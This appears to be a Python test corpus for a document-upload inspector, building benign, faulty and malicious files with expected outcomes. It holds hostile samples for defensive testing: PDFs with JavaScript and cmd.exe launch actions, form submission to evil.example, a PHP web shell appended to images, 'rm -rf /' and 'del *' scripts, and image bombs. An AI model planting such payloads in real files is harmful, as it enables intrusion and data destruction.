"""Good and bad files, each with what is to become of it and the finding that decides so."""

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from io import BytesIO
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image, ImageOps

from storage.terms import Inspection
from tests.bot.inspection import papers, samples

FITS, DOUBTFUL = Inspection.FITS, Inspection.DOUBTFUL
REFUSED, QUARANTINED = Inspection.REFUSED, Inspection.QUARANTINED
SESAME: Final = "芝麻"


@dataclass(frozen=True, slots=True)
class Case:
    """One file of the corpus."""

    name: str
    make: Callable[[], bytes]
    becomes: Inspection
    code: str = ""


def everything() -> Iterator[Case]:
    """Give the whole corpus."""
    yield from _good_pictures()
    yield from _good_pdfs()
    yield from _faulty_pictures()
    yield from _broken()
    yield from _other_kinds()
    yield from _dangerous_pdfs()
    yield from _two_things()
    yield from _bombs()


# ------------------------------------------------------------------------------- good ones


@cache
def _photo(kind: str = "bank-statement", seed: int = 1) -> Image.Image:
    return papers.photographed(papers.paper(kind, seed).image, seed)


def _good_pictures() -> Iterator[Case]:
    for seed, kind in enumerate(papers.KINDS):
        yield Case(
            f"scan of {kind}", partial(lambda k: _saved("PNG", papers.paper(k).image), kind), FITS
        )
        yield Case(
            f"photo of {kind}", partial(lambda k, s: _saved("JPEG", _photo(k, s)), kind, seed), FITS
        )
    for (way, mode), options in _WAYS.items():
        make = partial(lambda k, m, o: _saved(k, _in(m), **o), way, mode, options)
        yield Case(f"{mode} {way}", make, FITS)
    for turn in range(2, 9):
        yield Case(f"held in way {turn}", partial(_turned, turn), FITS)
    yield Case("with its place", lambda: _saved("JPEG", _photo(), exif=_place()), FITS)
    yield Case(
        "a phone's film behind it",
        lambda: _saved("JPEG", _photo()) + samples.media(b"mp42", b"isom") + bytes(5000),
        FITS,
    )
    yield Case(
        "two pictures in one",
        lambda: _saved("MPO", _photo(), save_all=True, append_images=[_photo()]),
        FITS,
    )
    yield Case("padded with zeros", lambda: _saved("JPEG", _photo()) + bytes(4096), FITS)
    yield Case("a fax of three pages", lambda: _pages("TIFF", 3, "1", compression="group4"), FITS)
    yield Case("a TIFF of ten pages", lambda: _pages("TIFF", 10, "L", compression="tiff_lzw"), FITS)
    yield Case("a long screenshot", lambda: _saved("PNG", _long()), FITS)
    yield Case(
        "as Telegram makes it", lambda: _saved("JPEG", _at(_photo(), 1280), quality=80), FITS
    )
    yield Case(
        "edited",
        lambda: _saved("JPEG", _photo(), exif=_software("Adobe Photoshop 25.1 (Macintosh)")),
        FITS,
        "edited",
    )
    yield Case(
        "by a camera",
        lambda: _saved("JPEG", _photo(), exif=_software("HDR+ 1.0.585804401zd")),
        FITS,
    )
    yield Case(
        "a letter in black",
        lambda: _saved("PNG", ImageOps.invert(papers.page("合同", ["第一条 甲方"] * 20))),
        FITS,
    )


_WAYS: Final = {
    ("JPEG", "RGB"): {"quality": 95},
    ("JPEG", "L"): {"quality": 60},
    ("JPEG", "CMYK"): {"quality": 90},
    ("JPEG", "YCbCr"): {"quality": 90},
    ("PNG", "1"): {},
    ("PNG", "P"): {},
    ("PNG", "LA"): {},
    ("PNG", "RGBA"): {},
    ("PNG", "I;16"): {},
    ("WEBP", "RGB"): {"quality": 80},
    ("WEBP", "RGBA"): {"lossless": True},
    ("TIFF", "CMYK"): {},
    ("TIFF", "RGB"): {"compression": "jpeg"},
    ("TIFF", "L"): {"compression": "tiff_adobe_deflate"},
    ("HEIF", "RGB"): {"quality": 80},
    ("HEIF", "RGBA"): {"quality": 80},
}


def _saved(kind: str, image: Image.Image, **options: object) -> bytes:
    return samples.saved(kind, image, **options)


def _in(mode: str) -> Image.Image:
    image = papers.paper("proof-of-income").image
    if mode == "I;16":
        return image.convert("I").point(lambda value: value * 257).convert(mode)
    return image.convert(mode)


def _turned(way: int) -> bytes:
    notes = Image.Exif()
    notes[0x0112] = way
    return _saved("JPEG", _photo("invoice", way), exif=notes)


def _place() -> Image.Exif:
    notes = Image.Exif()
    notes.get_ifd(0x8825)[29] = "2026:11:26"
    return notes


def _software(name: str) -> Image.Exif:
    notes = Image.Exif()
    notes[0x0131] = name
    return notes


def _pages(kind: str, count: int, mode: str, **options: object) -> bytes:
    page = papers.paper("purchase-contract").image.convert(mode)
    return _saved(kind, page, save_all=True, append_images=[page] * (count - 1), **options)


def _long() -> Image.Image:
    page = papers.paper("bank-statement").image
    whole = Image.new("RGB", (page.width, page.height * 3), "white")
    for at in range(3):
        whole.paste(page, (0, at * page.height))
    return whole


def _at(image: Image.Image, side: int) -> Image.Image:
    copy = image.copy()
    copy.thumbnail((side, side))
    return copy


def _good_pdfs() -> Iterator[Case]:
    yield Case("one page", lambda: samples.pdf(1), FITS)
    yield Case("sixty pages", lambda: samples.pdf(60), FITS)
    yield Case("packed tightly", lambda: samples.pdf(3, packed=True), FITS)
    yield Case("for old readers", lambda: samples.pdf(3, packed=False), FITS)
    yield Case("only printing forbidden", lambda: samples.locked(""), FITS)
    yield Case("a scan", lambda: scanned([papers.paper("invoice").image]), FITS)
    yield Case(
        "a scan of five pages",
        lambda: scanned([papers.paper("purchase-contract", n).image for n in range(5)]),
        FITS,
    )
    yield Case("a photo in a PDF", lambda: scanned([_photo()]), FITS)
    yield Case(
        "with an empty last page",
        lambda: scanned([papers.paper("invoice").image, Image.new("RGB", (1240, 1754), "white")]),
        FITS,
    )
    yield Case("with links", lambda: made(_link("https://www.icbc.com.cn/")), FITS)
    yield Case("with an address for mail", lambda: made(_link("mailto:service@example.com")), FITS)
    yield Case("with a table of contents", lambda: made(_contents), FITS)
    yield Case("with a form filled in", lambda: made(_form), FITS, "filled-form")
    yield Case(
        "an invoice with its XML",
        lambda: made(_carries("invoice.xml", b'<?xml version="1.0"?><Invoice/>')),
        FITS,
        "attachment",
    )
    yield Case("begun with a mark of its encoding", lambda: b"\xef\xbb\xbf" + samples.pdf(1), FITS)
    yield Case("ended with empty lines", lambda: samples.pdf(1) + b"\r\n" * 100, FITS)
    yield Case("saved twice", lambda: _saved_again(samples.pdf(2, packed=False)), FITS)
    yield Case(
        "with a wrong table of places", lambda: _misplaced(samples.pdf(3, packed=False)), FITS
    )
    yield Case("made by a bank", lambda: made(_by("iText 7.1.9 (ICBC)")), FITS)
    yield Case(
        "made by an editor of pictures", lambda: made(_by("Adobe Photoshop 25")), FITS, "edited"
    )


def made(change: Callable[[Pdf], None]) -> bytes:
    """Make a good PDF of one page and change it."""
    target = BytesIO()
    with pikepdf.open(BytesIO(samples.pdf(1))) as pdf:
        change(pdf)
        pdf.save(target)
    return target.getvalue()


def scanned(pages: list[Image.Image]) -> bytes:
    """Make a PDF as scanners do: a picture on each page."""
    target = BytesIO()
    pages[0].save(target, "PDF", save_all=True, append_images=pages[1:], resolution=150)
    return target.getvalue()


def _annotated(pdf: Pdf, **entries: pikepdf.Object) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 90, 90])
    for name, value in entries.items():
        note[f"/{name}"] = value
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _link(address: str) -> Callable[[Pdf], None]:
    return lambda pdf: _annotated(pdf, A=Dictionary(S=Name.URI, URI=pikepdf.String(address)))


def _contents(pdf: Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("流水", 0))


def _form(pdf: Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T="name",
            V="王小梅",
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=[0, 0, 90, 20],
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.pages[0].obj.Annots = Array([field])


def _carries(name: str, content: bytes) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.attachments[name] = content

    return change


def _by(program: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.docinfo["/Producer"] = program

    return change


def _saved_again(data: bytes) -> bytes:
    """Add a change to the end, as programs do that do not rewrite a file."""
    start = data.rindex(b"startxref") + len(b"startxref")
    place = int(data[start:].split()[0])
    more = b"\n99 0 obj\n<< /Note (seen) >>\nendobj\n"
    at = len(data) + 1
    table = b"xref\n99 1\n%010d 00000 n \n" % at
    trailer = data[data.rindex(b"trailer") : data.rindex(b"startxref")].replace(
        b"<<", b"<< /Prev %d" % place, 1
    )
    return data + more + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(data) + len(more))


def _misplaced(data: bytes) -> bytes:
    start = data.index(b"startxref\n") + len(b"startxref\n")
    return data[:start] + b"7\n%%EOF\n"


# ----------------------------------------------------------------------------- faulty ones


def _faulty_pictures() -> Iterator[Case]:
    photo = _photo
    yield Case(
        "out of focus", lambda: _saved("JPEG", papers.blurred(photo(), 4)), DOUBTFUL, "blurred"
    )
    yield Case(
        "out of focus in a PDF", lambda: scanned([papers.blurred(photo(), 5)]), DOUBTFUL, "blurred"
    )
    yield Case("shaken", lambda: _saved("JPEG", papers.shaken(photo(), 17)), DOUBTFUL, "blurred")
    yield Case("in the dark", lambda: _saved("JPEG", papers.dark(photo(), 0.2)), DOUBTFUL, "dark")
    yield Case(
        "all black", lambda: _saved("JPEG", Image.new("RGB", (1000, 1400))), DOUBTFUL, "dark"
    )
    yield Case(
        "under a lamp",
        lambda: _saved("JPEG", papers.with_glare(photo("invoice", 3), 3)),
        DOUBTFUL,
        "glare",
    )
    yield Case(
        "an empty page",
        lambda: _saved("PNG", Image.new("RGB", (1000, 1400), "white")),
        DOUBTFUL,
        "blank",
    )
    yield Case("an empty PDF", lambda: samples.pdf(2, content=b""), DOUBTFUL, "blank")
    for side in ("left", "right", "top", "bottom"):
        yield Case(
            f"without its {side}",
            partial(lambda s: _saved("JPEG", papers.cropped(photo(), s, 0.25)), side),
            DOUBTFUL,
            "cut-off",
        )
    yield Case(
        "far too small", lambda: _saved("JPEG", _at(photo(), 300)), DOUBTFUL, "low-resolution"
    )


def _broken() -> Iterator[Case]:
    whole = {kind: samples.saved(kind) for kind in ("JPEG", "PNG", "WEBP", "HEIF", "TIFF")} | {
        "PDF": samples.pdf(20)
    }
    yield Case("nothing", lambda: b"", REFUSED, "empty")
    for kind, data in whole.items():
        for part in (0.2, 0.6, 0.9):
            yield Case(
                f"{kind} cut at {part:.0%}",
                partial(lambda d, p: d[: int(len(d) * p)], data, part),
                REFUSED,
                "unreadable",
            )
    yield Case(
        "a PDF of noise", lambda: b"%PDF-1.7\n" + _noise(5000) + b"\n%%EOF", REFUSED, "unreadable"
    )
    yield Case("a PNG of noise", lambda: whole["PNG"][:60] + _noise(9000), REFUSED, "unreadable")
    yield Case(
        "a JPEG without tables",
        lambda: b"\xff\xd8\xff\xda" + _noise(3000) + b"\xff\xd9",
        REFUSED,
        "unreadable",
    )
    yield Case("a PDF without pages", lambda: samples.pdf(0), REFUSED, "empty")
    yield Case("locked", lambda: samples.locked(SESAME), REFUSED, "password")
    yield Case("too many pages", lambda: samples.pdf(201), REFUSED, "too-many-pages")
    yield Case(
        "a stamp", lambda: samples.saved("PNG", samples.picture(40, 40)), REFUSED, "too-small"
    )


def _noise(size: int) -> bytes:
    return b"".join(struct.pack(">I", zlib.crc32(b"%d" % at)) for at in range(size // 4))


def _other_kinds() -> Iterator[Case]:
    kinds: dict[str, tuple[bytes, str]] = {
        "a ZIP": (samples.zipped("a.jpg"), "archive"),
        "an empty ZIP": (b"PK\x05\x06" + bytes(18), "archive"),
        "a RAR": (b"Rar!\x1a\x07\x01\0" + bytes(99), "archive"),
        "a 7z": (b"7z\xbc\xaf\x27\x1c" + bytes(99), "archive"),
        "a gzip": (gzip.compress(b"hello"), "archive"),
        "a tar": (_tar(), "archive"),
        "a bzip2": (b"BZh91AY&SY" + bytes(99), "archive"),
        "an xz": (b"\xfd7zXZ\0" + bytes(99), "archive"),
        "a zstd": (b"\x28\xb5\x2f\xfd" + bytes(99), "archive"),
        "a cabinet": (b"MSCF" + bytes(99), "archive"),
        "a DOCX": (samples.docx(), "office"),
        "an XLSX": (samples.zipped("[Content_Types].xml", "xl/workbook.xml"), "office"),
        "an ODT": (samples.zipped("mimetype", "content.xml"), "archive"),
        "a DOC": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999), "office"),
        "an RTF": (b"{\\rtf1\\ansi hello}", "office"),
        "a GIF": (samples.saved("GIF"), "other-image"),
        "a BMP": (samples.saved("BMP"), "other-image"),
        "an SVG": (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "other-image",
        ),
        "an AVIF": (samples.media(b"avif", b"mif1"), "other-image"),
        "an MP4": (samples.media(b"isom", b"mp42"), "video"),
        "an MP3": (b"ID3\x04" + bytes(99), "audio"),
        "an OGG": (b"OggS" + bytes(99), "audio"),
        "a web page": (b"<!doctype html><html><script>alert(1)</script></html>", "text"),
        "a text": ("收入证明".encode(), "text"),
        "a text of Windows": ("收入证明".encode("gb18030"), "text"),
        "a script": (b"#!/bin/sh\nrm -rf /\n", "text"),
        "a Windows program": (b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + _noise(400), "unknown-type"),
        "a Linux program": (b"\x7fELF\2\1\1" + bytes(99), "unknown-type"),
        "a Java class": (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(99), "unknown-type"),
        "a shortcut": (b"L\0\0\0\1\x14\2\0" + bytes(99), "unknown-type"),
        "noise": (_noise(5000), "unknown-type"),
        "a PDF behind a word": (b"MZ hello\n" + samples.pdf(1), "unknown-type"),
    }
    for name, (data, code) in kinds.items():
        yield Case(name, partial(lambda d: d, data), REFUSED, code)


def _tar() -> bytes:
    target = BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"), io.BytesIO())
    return target.getvalue()


# -------------------------------------------------------------------------- dangerous ones


def _dangerous_pdfs() -> Iterator[Case]:
    actions = {
        "runs a script when opened": lambda pdf: _opens_with(pdf, _script()),
        "starts a program when opened": lambda pdf: _opens_with(pdf, _launch()),
        "runs a script when pressed": lambda pdf: _annotated(pdf, A=_script()),
        "runs a script when a page opens": lambda pdf: _page_opens_with(pdf, _script()),
        "runs a script when it is closed": lambda pdf: _closes_with(pdf, _script()),
        "runs a script by name": _named_script,
        "runs a script after another action": lambda pdf: _annotated(
            pdf, A=Dictionary(S=Name.GoTo, Next=Array([_script()]))
        ),
        "keeps a script that nothing leads to": lambda pdf: _keep(pdf, _script()),
        "hides a script in a stream": _script_in_stream,
        "sends a form": lambda pdf: _annotated(
            pdf, A=Dictionary(S=Name.SubmitForm, F="https://evil.example/")
        ),
        "reads a form from a file": lambda pdf: _annotated(
            pdf, A=Dictionary(S=Name.ImportData, F="a.fdf")
        ),
        "opens another file": lambda pdf: _annotated(
            pdf, A=Dictionary(S=Name.GoToR, F="//evil.example/share/a.pdf")
        ),
        "opens a file within": lambda pdf: _annotated(pdf, A=Dictionary(S=Name.GoToE, F="a.pdf")),
        "links to a file of ours": _link("file:///etc/passwd"),
        "links to a script": _link("javascript:alert(1)"),
        "links to a share": _link("\\\\evil.example\\share"),
        "plays a film": lambda pdf: _annotated(pdf, A=Dictionary(S=Name.Rendition)),
        "shows rich media": _rich_media,
        "has its bytes elsewhere": _elsewhere,
    }
    for name, change in actions.items():
        yield Case(f"a PDF that {name}", partial(made, change), QUARANTINED, "active-content")
    yield Case(
        "a packed PDF that runs a script",
        lambda: _locked_script(_script()),
        QUARANTINED,
        "active-content",
    )
    carried = {
        "a program": b"MZ\x90\0" + bytes(99),
        "an archive": samples.zipped("a.exe"),
        "a PDF": samples.pdf(1),
        "a batch file": b"@echo off\r\ndel *\r\n",
        "a web page": b"<html><script>alert(1)</script></html>",
    }
    for name, content in carried.items():
        yield Case(
            f"a PDF that carries {name}",
            partial(lambda c: made(_carries("a.xml", c)), content),
            QUARANTINED,
            "hidden-file",
        )
    yield Case("a form for special software", lambda: made(_special_form), REFUSED, "form")


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


def _opens_with(pdf: Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = action


def _page_opens_with(pdf: Pdf, action: Dictionary) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action)


def _closes_with(pdf: Pdf, action: Dictionary) -> None:
    pdf.Root.AA = Dictionary(WC=action)


def _named_script(pdf: Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", action])))


def _keep(pdf: Pdf, action: Dictionary) -> None:
    pdf.Root.PieceInfo = Dictionary(Old=action)


def _script_in_stream(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name("/JavaScript"), JS=pdf.make_stream(b"app.alert(1)"))


def _rich_media(pdf: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 90, 90])
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _elsewhere(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.F = pikepdf.String("//evil.example/a")
    pdf.Root.PieceInfo = Dictionary(Old=stream)


def _special_form(pdf: Pdf) -> None:
    pdf.Root.NeedsRendering = True
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _locked_script(action: Dictionary) -> bytes:
    target = BytesIO()
    with pikepdf.open(BytesIO(samples.pdf(1))) as pdf:
        pdf.Root.OpenAction = action
        options = pikepdf.ObjectStreamMode.generate
        pdf.save(
            target, object_stream_mode=options, encryption=pikepdf.Encryption(owner="o", user="")
        )
    return target.getvalue()


def _two_things() -> Iterator[Case]:
    pictures = {kind: samples.saved(kind) for kind in ("JPEG", "PNG", "WEBP", "HEIF", "TIFF")}
    archive = samples.zipped("a.class")
    for kind, data in (pictures | {"PDF": samples.pdf(1)}).items():
        yield Case(
            f"{kind} and a ZIP", partial(lambda d: d + archive, data), QUARANTINED, "two-things"
        )
    for kind, data in pictures.items():
        yield Case(
            f"{kind} and a PDF",
            partial(lambda d: d + samples.pdf(1), data),
            QUARANTINED,
            "two-things",
        )
        yield Case(
            f"{kind} and a script",
            partial(lambda d: d + b"<?php system($_GET['c']); ?>", data),
            QUARANTINED,
            "two-things",
        )
    jpeg = pictures["JPEG"]
    yield Case(
        "a script in a comment",
        lambda: samples.saved("JPEG", comment=b"<script>alert(1)</script>"),
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a page in a comment",
        lambda: samples.saved("JPEG", comment=b"<HTML><body onload=x>"),
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a PDF in a comment",
        lambda: samples.saved("JPEG", comment=b"%PDF-1.7 " + bytes(90)),
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a program behind", lambda: jpeg + b"MZ\x90\0" + _noise(500), QUARANTINED, "two-things"
    )
    yield Case(
        "a Linux program behind",
        lambda: jpeg + b"\x7fELF\2\1" + _noise(500),
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a RAR behind",
        lambda: jpeg + b"Rar!\x1a\x07\x01\0" + _noise(500),
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a ZIP with a comment behind",
        lambda: jpeg + archive[:-2] + b"\x05\0hello",
        QUARANTINED,
        "two-things",
    )
    yield Case(
        "a web page behind a PDF",
        lambda: samples.pdf(1) + b"<html><script>x</script>",
        QUARANTINED,
        "two-things",
    )


def _bombs() -> Iterator[Case]:
    for side in (7_100, 10_000, 22_600):
        yield Case(
            f"a picture of {side} by {side}",
            partial(samples.png_bomb, side),
            REFUSED,
            "too-many-pixels",
        )
    yield Case(
        "a picture that claims 4 milliard pixels",
        lambda: _claims(0xFFFF, 0xFFFF),
        REFUSED,
        "too-many-pixels",
    )
    yield Case(
        "a PDF with such a picture", lambda: made(_large_picture), REFUSED, "too-many-pixels"
    )
    yield Case("a PDF within itself", lambda: made(_circle), FITS)
    yield Case("a PDF with boxes in boxes", lambda: made(_boxes), QUARANTINED, "active-content")


def _claims(width: int, height: int) -> bytes:
    data = bytearray(samples.png_bomb(100))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def _large_picture(pdf: Pdf) -> None:
    picture = pdf.make_stream(
        b"\0", Type=Name.XObject, Subtype=Name.Image, Width=99_999, Height=99_999
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=picture))


def _circle(pdf: Pdf) -> None:
    form = pdf.make_stream(b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=form))


def _boxes(pdf: Pdf) -> None:
    box = Array([])
    for _ in range(70):
        box = Array([box])
    pdf.Root.PieceInfo = Dictionary(Old=box)
